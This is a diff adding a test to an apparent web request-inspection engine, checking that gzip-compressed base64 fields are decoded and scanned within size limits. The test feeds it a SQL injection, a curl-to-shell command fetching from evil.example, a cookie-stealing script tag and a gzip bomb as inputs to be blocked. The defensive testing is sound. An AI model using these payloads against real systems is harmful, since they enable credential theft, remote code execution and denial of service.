@@ -287,6 +287,39 @@ t.test('an HTTP body in base64 is read whole as its content type says, whatever 
   t.equal(e.inspect(req([body(noise, { base64: true, contentType: 'image/png' })])).action, 'allow');
 });
 
+t.test('base64 of gzip in a field is read inflated, bounded by maxBytes', async (t) => {
+  const { gzipSync, deflateSync } = await import('node:zlib');
+  const gz = (s: string): string => gzipSync(Buffer.from(s)).toString('base64');
+  const e = createEngine();
+  const json = e.inspect(req([body(JSON.stringify({ data: gz(JSON.stringify({ q: "1' UNION SELECT password FROM users--" })) }))]));
+  t.equal(json.action, 'block', 'gzip of JSON');
+  t.equal(json.findings[0]?.path, 'body.data["#gzip"].q');
+  const text = e.inspect(req([body(JSON.stringify({ items: [{ note: gz('x; curl http://evil.example/x.sh | sh') }] }))]));
+  t.equal(text.findings[0]?.path, 'body.items[0].note["#gzip"]', 'gzip of text');
+  const query = e.inspect(req([{ kind: 'query', path: 'query', value: { blob: gz('<script>alert(document.cookie)</script>') } }]));
+  t.equal(query.findings[0]?.path, 'query.blob["#gzip"]', 'in a query value');
+  // Honest compressed content passes, and a string that only starts like gzip is read as before.
+  t.equal(e.inspect(req([body(JSON.stringify({ data: gz(JSON.stringify({ note: "O'Brien's order; ring twice", qty: 3 })) }))])).action, 'allow');
+  t.equal(e.inspect(req([body(JSON.stringify({ data: 'H4sIAAAAAAAAA' + 'x'.repeat(40) }))])).action, 'allow', 'not gzip after all');
+  // Other codings are not guessed (no magic to tell them by): deflate's bytes stay unread.
+  t.equal(e.inspect(req([body(JSON.stringify({ data: deflateSync(Buffer.from("1' UNION SELECT password FROM users--")).toString('base64') }))])).action, 'allow');
+  // A zip bomb inflates only as far as the limit allows, and is a limits finding.
+  const bomb = gzipSync(Buffer.alloc(4 * 1024 * 1024, 0x61)).toString('base64');
+  const small = createEngine({ limits: { maxBytes: 64 * 1024 } });
+  const v = small.inspect(req([body(JSON.stringify({ data: bomb }))]));
+  t.equal(v.action, 'block');
+  t.equal(v.findings[0]?.rule, 'limits.bytes');
+  t.match(v.findings[0]?.reason, /gzip field/);
+  // At most 8 inflated per inspection (each costs a zlib stream whatever its size); past them a
+  // limits finding (413), not a payload left unread behind decoys.
+  const fields = (n: number, last: string): string => JSON.stringify(Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, gz(i === n - 1 ? last : `chunk ${i}`)])));
+  t.equal(e.inspect(req([body(fields(8, "1' UNION SELECT password FROM users--"))])).findings[0]?.path, 'body.f7["#gzip"]', 'the 8th is read');
+  const many = e.inspect(req([body(fields(12, 'chunk'))]));
+  t.same(many.findings.map((f) => f.rule), ['limits.gzip'], 'honest chunks past 8: one limits finding');
+  t.equal(many.action, 'block');
+  t.equal(many.status, 413);
+});
+
 t.test('base64 text in a string value is read decoded too; ids, tokens and images are not', async (t) => {
   const e = createEngine();
   const enc = (s: string | Buffer): string => Buffer.from(s).toString('base64');
